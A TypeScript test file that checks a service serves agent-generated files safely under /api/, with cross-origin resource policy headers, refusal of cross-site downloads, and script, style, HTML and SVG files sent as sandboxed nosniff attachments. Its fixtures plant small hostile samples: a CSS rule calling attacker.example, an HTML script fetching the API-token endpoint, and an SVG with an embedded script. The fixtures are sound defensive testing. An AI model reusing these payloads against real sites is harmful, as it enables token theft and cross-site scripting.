/**
 * Raw answers under /api/ at the edge, over a real socket: every /api/ answer (errors too) is
 * `Cross-Origin-Resource-Policy: same-origin`; a raw download is refused to a cross-site
 * request before its route runs; an agent's script, style, HTML or SVG file is served as an
 * `attachment` of type `application/octet-stream` with `nosniff` (it once came as
 * `text/javascript`, and a page on another origin read it through `<script src>`), while the
 * service's own pages (the API explorer) keep their types.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestKernel, type TestKernel } from '../../sdk/testing/index.js';
import { json } from '../helpers.js';

let t: TestKernel;
let base: string;
let dataDir: string;
beforeAll(async () => {
  dataDir = mkdtempSync(path.join(os.tmpdir(), 'svc-raw-'));
  t = await startTestKernel({ mods: ['health', 'diagnostics', 'agents', 'workspace', 'api-docs'], config: { dataDir } });
  expect((await t.request(json('POST', '/api/agents', { id: 'ada', name: 'Ada' }))).status).toBe(201);
  const out = path.join(dataDir, 'workspaces', 'ada', 'out');
  mkdirSync(out, { recursive: true });
  writeFileSync(path.join(out, 'steal.js'), 'window.leak = "agent secret";');
  writeFileSync(path.join(out, 'steal.mjs'), 'export const leak = "agent secret";');
  writeFileSync(path.join(out, 'theme.css'), 'body { background: url(https://attacker.example/?x) }');
  writeFileSync(path.join(out, 'page.html'), '<script>fetch("/api/settings/api-tokens")</script>');
  writeFileSync(path.join(out, 'icon.svg'), '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
  writeFileSync(path.join(out, 'feed.xml'), '<x/>');
  writeFileSync(path.join(out, 'chart.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
  writeFileSync(path.join(out, 'notes.txt'), 'plain notes');
  base = await t.kernel.listen();
});
afterAll(async () => {
  await t?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

const get = (url: string, headers: Record<string, string> = {}) => fetch(`${base}${url}`, { headers });
const file = (name: string) => `/api/generated-artifacts/ada/out%2F${name}`;

describe('Cross-Origin-Resource-Policy', () => {
  it.each([
    ['a JSON answer', '/api/health', {}, 200],
    ['a raw download', file('notes.txt'), {}, 200],
    ['an unknown route', '/api/nope', {}, 404],
    ['a missing resource', '/api/agents/nobody', {}, 404],
    ['a validation error', '/api/attachments?limit=none', {}, 400],
    ['a refused token', '/api/settings/api-tokens', { authorization: 'Bearer svc_not-a-token' }, 403],
    ['a refused origin', '/api/health', { origin: 'https://evil.example' }, 403],
    ['a malformed path', '/api/%zz', {}, 400],
  ])('is same-origin on %s', async (_name, url, headers, status) => {
    const res = await get(url, headers as Record<string, string>);
    expect(res.status).toBe(status);
    expect(res.headers.get('cross-origin-resource-policy')).toBe('same-origin');
  });
});

it('is same-origin on the refusal of an absolute-form request target', async () => {
  const { port } = new URL(base);
  const answer = await new Promise<string>((resolve, reject) => {
    let data = '';
    const socket = net.connect(Number(port), '127.0.0.1', () => socket.write(`GET http://127.0.0.1:${port}/api/health HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: close\r\n\r\n`));
    socket.on('data', (chunk) => (data += chunk));
    socket.on('end', () => resolve(data));
    socket.on('error', reject);
  });
  expect(answer).toMatch(/^HTTP\/1\.1 400 /);
  expect(answer).toContain('absolute_target_not_allowed');
  expect(answer).toMatch(/\r\ncross-origin-resource-policy: same-origin\r\n/i);
});

describe('cross-site requests of raw downloads', () => {
  it('refuses Sec-Fetch-Site: cross-site with 403 cross_site_download_refused before the route reads the file', async () => {
    for (const url of [file('steal.js'), file('notes.txt'), file('missing.txt'), '/api/attachments/ada/nothing']) {
      const res = await get(url, { 'sec-fetch-site': 'cross-site', 'sec-fetch-dest': 'script', 'sec-fetch-mode': 'no-cors' });
      expect(res.status, url).toBe(403);
      const body = (await res.json()) as { ok: boolean; error: string };
      expect(body, url).toMatchObject({ ok: false, error: 'cross_site_download_refused' });
      expect(res.headers.get('cross-origin-resource-policy')).toBe('same-origin');
    }
  });

  it('serves same-origin, same-site, user-initiated and non-browser requests', async () => {
    for (const site of ['same-origin', 'same-site', 'none', undefined]) {
      const res = await get(file('notes.txt'), site ? { 'sec-fetch-site': site } : {});
      expect(res.status, String(site)).toBe(200);
      expect(await res.text()).toBe('plain notes');
    }
  });

  it('leaves JSON routes to the origin policy', async () => {
    expect((await get('/api/health', { 'sec-fetch-site': 'cross-site' })).status).toBe(200);
  });
});

describe('scripts, styles, HTML and SVG are downloads', () => {
  it.each(['steal.js', 'steal.mjs', 'theme.css', 'page.html', 'icon.svg', 'feed.xml'])('serves %s as an octet-stream attachment with nosniff', async (name) => {
    const res = await get(file(name), { 'sec-fetch-site': 'same-origin' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/octet-stream');
    expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="${name.replace('.', '\\.')}"`));
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toContain('sandbox');
  });

  it('keeps passive types as the owner chose them', async () => {
    const png = await get(file('chart.png'));
    expect(png.headers.get('content-type')).toBe('image/png');
    expect(png.headers.get('content-disposition')).toMatch(/^inline;/);
    expect(png.headers.get('x-content-type-options')).toBe('nosniff');
    const text = await get(file('notes.txt'));
    expect(text.headers.get('content-type')).toBe('text/plain; charset=utf-8');
  });

  it('leaves the API explorer, a page of the service itself, runnable', async () => {
    const page = await get('/api/docs');
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toContain('text/html');
    expect(page.headers.get('content-disposition')).toBeNull();
    const script = await get('/api/docs/svc-init.js', { 'sec-fetch-site': 'same-origin', 'sec-fetch-dest': 'script' });
    expect(script.status).toBe(200);
    expect(script.headers.get('content-type')).toContain('text/javascript');
    expect(script.headers.get('x-content-type-options')).toBe('nosniff');
  });
});
